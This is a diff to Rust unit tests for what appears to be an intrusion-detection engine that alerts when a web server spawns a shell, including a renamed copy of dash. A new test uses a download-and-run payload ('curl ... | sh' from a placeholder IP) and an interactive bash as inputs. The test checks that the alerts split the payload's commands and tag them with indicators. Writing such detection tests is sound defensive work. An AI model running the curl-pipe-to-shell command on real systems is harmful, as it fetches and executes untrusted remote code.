@@ -195,7 +195,7 @@ mod tests {
     #[test]
     fn a_shell_copied_under_another_name_is_a_shell() {
         let host = FakeHost {
-            copies: vec![("/tmp/kworker", "/usr/bin/dash")],
+            copies: vec![("/usr/local/lib/kworker", "/usr/bin/dash")],
             ..FakeHost::default()
         };
         let mut engine = Engine::new(&Config::default(), HostInfo::default())
@@ -204,16 +204,47 @@ mod tests {
         let mut alerts = Vec::new();
         engine.process(exec(1, 10, 1, "/usr/sbin/nginx", &["nginx"]), &mut alerts);
         engine.process(
-            exec(2, 20, 10, "/tmp/kworker", &["kworker", "-c", "x"]),
+            exec(2, 20, 10, "/usr/local/lib/kworker", &["kworker", "-c", "x"]),
             &mut alerts,
         );
-        engine.process(exec(3, 21, 10, "/tmp/other", &["other"]), &mut alerts);
+        engine.process(exec(3, 21, 10, "/usr/local/lib/other", &["other"]), &mut alerts);
         // Outside a server, a copy is nobody's business.
-        engine.process(exec(4, 30, 1, "/tmp/kworker", &["kworker"]), &mut alerts);
+        engine.process(exec(4, 30, 1, "/usr/local/lib/kworker", &["kworker"]), &mut alerts);
         assert_eq!(alerts.len(), 1, "{alerts:#?}");
         let v = serde_json::to_value(&alerts[0]).expect("json");
         assert_eq!(v["rule"]["id"], "server-spawned-shell");
-        assert_eq!(v["process"]["executable"], "/tmp/kworker");
+        assert_eq!(v["process"]["executable"], "/usr/local/lib/kworker");
         assert_eq!(v["lineage"]["shell_copy_of"], "/usr/bin/dash");
+    }
+
+    /// The alert splits the payload into commands and says what in it always alerts; `sh -c --`
+    /// (glibc 2.38+ system()) reads as `sh -c`.
+    #[test]
+    fn alerts_list_the_payloads_commands_and_indicators() {
+        let mut engine = Engine::new(&Config::default(), HostInfo::default()).expect("engine");
+        let mut alerts = Vec::new();
+        engine.process(exec(1, 10, 1, "/usr/sbin/nginx", &["nginx"]), &mut alerts);
+        let payload = "cd /tmp && curl -s http://192.0.2.1/a.sh | sh";
+        engine.process(
+            exec(2, 11, 10, "/bin/sh", &["sh", "-c", "--", payload]),
+            &mut alerts,
+        );
+        engine.process(exec(3, 12, 10, "/bin/bash", &["bash", "-i"]), &mut alerts);
+        assert_eq!(alerts.len(), 2, "{alerts:#?}");
+        let v = serde_json::to_value(&alerts[0]).expect("json");
+        assert_eq!(
+            v["lineage"]["shell"]["commands"],
+            serde_json::json!(["cd /tmp", "curl -s http://192.0.2.1/a.sh", "sh"])
+        );
+        assert_eq!(
+            v["lineage"]["indicators"],
+            serde_json::json!(["download-to-shell"])
+        );
+        let v = serde_json::to_value(&alerts[1]).expect("json");
+        assert!(v["lineage"].get("shell").is_none(), "no -c payload: {v}");
+        assert_eq!(
+            v["lineage"]["indicators"],
+            serde_json::json!(["interactive-shell"])
+        );
     }
 }
